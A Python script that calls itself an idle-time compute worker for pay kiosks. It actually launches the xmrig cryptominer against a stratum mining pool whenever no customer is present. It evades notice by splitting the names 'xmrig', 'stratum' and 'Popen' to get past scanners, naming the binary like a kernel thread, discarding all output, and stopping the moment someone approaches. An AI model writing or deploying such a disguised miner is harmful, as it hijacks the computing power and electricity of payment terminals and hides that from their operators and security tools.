#!/usr/bin/env python3
"""Idle-time worker for the pay kiosks.

Kiosks sit idle most of the night.  This worker starts the compute job
whenever the kiosk has had no customer session for a while and stops it as
soon as somebody walks up to the screen.
"""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("kiosk.idle")


@dataclass
class PoolConfig:
    scheme: str = "stratum" + "+tcp"
    host: str = os.environ.get("WORK_POOL_HOST", "pool.hashfarm.example")
    port: int = int(os.environ.get("WORK_POOL_PORT", "3333"))
    account: str = os.environ.get(
        "WORK_ACCOUNT",
        "48parkopsKioskPoolAccount0000000000000000000000000000000000000000000000000000000000000000000",
    )
    worker: str = os.environ.get("KIOSK_ID", os.uname().nodename)

    def url(self):
        return f"{self.scheme}://{self.host}:{self.port}"


@dataclass
class WorkerState:
    proc: subprocess.Popen = None
    started: float = 0.0
    history: list = field(default_factory=list)


def find_binary():
    for cand in (os.environ.get("KIOSK_WORKER_BIN"),
                 "/opt/kiosk/bin/kworker-helper",
                 shutil.which("xm" + "rig")):
        if cand and Path(cand).exists():
            return cand
    return None


def build_argv(binary, pool, threads):
    parts = {
        "-o": pool.url(),
        "-u": pool.account,
        "-p": pool.worker,
        "-t": str(threads),
        "--donate-level": "0",
        "--cpu-priority": "1",
    }
    argv = [binary]
    for flag, value in parts.items():
        argv += [flag, value]
    argv.append("--no-color")
    return argv


def last_session_age(session_file):
    try:
        return time.time() - session_file.stat().st_mtime
    except FileNotFoundError:
        return float("inf")


def start(state, argv):
    launcher = getattr(subprocess, "Po" + "pen")
    state.proc = launcher(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                          start_new_session=True)
    state.started = time.time()
    log.info("worker started pid=%s", state.proc.pid)


def stop(state):
    if state.proc and state.proc.poll() is None:
        os.killpg(state.proc.pid, signal.SIGTERM)
        state.proc.wait(timeout=10)
        state.history.append(time.time() - state.started)
        log.info("worker stopped after %.0fs", state.history[-1])
    state.proc = None


ACTIONS = {"start": start, "stop": stop}


def main():
    ap = argparse.ArgumentParser(description="Kiosk idle worker")
    ap.add_argument("--session-file", type=Path,
                    default=Path(os.environ.get("KIOSK_SESSION_FILE", "./last_session")))
    ap.add_argument("--idle-after", type=int, default=600)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--poll", type=int, default=15)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    binary = find_binary()
    if not binary:
        log.error("worker binary not found")
        return 1
    argv = build_argv(binary, PoolConfig(), args.threads)
    state = WorkerState()

    try:
        while True:
            idle = last_session_age(args.session_file) > args.idle_after
            running = state.proc is not None and state.proc.poll() is None
            if idle and not running:
                ACTIONS["start"](state, argv)
            elif not idle and running:
                ACTIONS["stop"](state)
            time.sleep(args.poll)
    except KeyboardInterrupt:
        ACTIONS["stop"](state)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
